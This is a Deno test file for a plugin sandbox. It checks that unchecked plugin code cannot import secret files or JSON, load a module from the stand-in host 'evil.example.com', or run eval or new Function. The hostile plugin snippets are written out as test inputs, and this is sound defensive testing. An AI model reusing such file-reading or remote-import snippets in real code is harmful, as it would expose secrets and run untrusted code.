/**
 * The sandbox process on its own, below the bundle check (defence in depth): code that the
 * check would refuse is sent straight to a real sandbox, which must still not read files,
 * import JSON or remote modules, or generate code.
 */
import assert from "node:assert/strict";
import { bootstrapBundle } from "../services/plugin_host/bundle.ts";
import { effectiveGrant } from "../services/plugin_host/grant.ts";
import { sandboxArgs, SandboxProcess } from "../services/plugin_host/sandbox.ts";
import type { SandboxExit } from "../services/plugin_host/sandbox.ts";
import { SECRET_JSON, SECRET_MARK, SECRET_TXT } from "./fixtures/plugins/_harness.ts";

async function withSandbox(
  fn: (sb: SandboxProcess, seen: string[]) => Promise<void>,
): Promise<SandboxExit[]> {
  const seen: string[] = [];
  const exits: SandboxExit[] = [];
  const sb = await SandboxProcess.spawn({
    memoryMb: 64,
    bootstrap: await bootstrapBundle(),
    handlers: {
      capability: (plugin, method, args) => {
        seen.push(JSON.stringify({ plugin, method, args }));
        return Promise.resolve(null);
      },
      crash: (plugin, e) => void seen.push(`${plugin} crash ${e.message}`),
      exit: (info) => void exits.push(info),
      stderr: (line) => void seen.push(line),
    },
  });
  try {
    await fn(sb, seen);
  } finally {
    await sb.close();
  }
  assert.ok(!seen.join("\n").includes(SECRET_MARK), "the secret leaked");
  return exits;
}

const grant = effectiveGrant(["log"], undefined);

/** Load `code` unchecked; returns the load error message (or "loaded"). */
async function tryLoad(sb: SandboxProcess, id: string, code: string): Promise<string> {
  try {
    await sb.load(id, code, grant, {}, 0, 5000);
    return "loaded";
  } catch (e) {
    return (e as Error).message;
  }
}

Deno.test("sandboxArgs() grants no permission and disables code generation", () => {
  const args = sandboxArgs(96);
  assert.ok(!args.some((a) => a.startsWith("--allow")), args.join(" "));
  for (const flag of ["--no-prompt", "--no-remote", "--no-npm", "--no-config"]) {
    assert.ok(args.includes(flag), flag);
  }
  assert.ok(args.includes("--v8-flags=--disallow-code-generation-from-strings,--max-old-space-size=96"));
});

Deno.test("sandbox: unchecked static imports of files, JSON and remote modules fail without leaking", async () => {
  await withSandbox(async (sb) => {
    const text = await tryLoad(sb, "a", `import s from "file://${SECRET_TXT}"; export default { s };`);
    const json = await tryLoad(
      sb,
      "b",
      `import s from "file://${SECRET_JSON}" with { type: "json" }; export default { s };`,
    );
    const remote = await tryLoad(
      sb,
      "c",
      `import s from "https://evil.example.com/x.js"; export default { s };`,
    );
    assert.match(text, /^Requires read access to /);
    assert.match(json, /^Requires read access to /);
    assert.match(remote, /^Requires import access to "evil\.example\.com:443"/);
  });
});

Deno.test("sandbox: unchecked dynamic imports and code generation fail at run time", async () => {
  await withSandbox(async (sb) => {
    const code = `export default {
      async poll() {
        const out = [];
        for (const u of [${JSON.stringify(`file://${SECRET_JSON}`)}, ${
      JSON.stringify(`file://${SECRET_TXT}`)
    }]) {
          try { await import(u, { with: { type: "json" } }); out.push("read"); } catch (e) { out.push(e.name); }
        }
        try { eval("1"); out.push("eval ran"); } catch (e) { out.push(e.name); }
        try { new Function("return 1")(); out.push("Function ran"); } catch (e) { out.push(e.name); }
        return [{ sensor: "x", values: { out: out.join(",") } }];
      },
    };`;
    assert.equal(await tryLoad(sb, "d", code), "loaded");
    const [r] = await sb.call("d", "poll", [], 5000) as { values: { out: string } }[];
    const outcomes = r.values.out.split(",");
    assert.equal(outcomes.length, 4);
    assert.ok(!outcomes.some((o) => o === "read" || o.endsWith("ran")), r.values.out);
    assert.deepEqual(outcomes.slice(2), ["EvalError", "EvalError"]);
  });
});
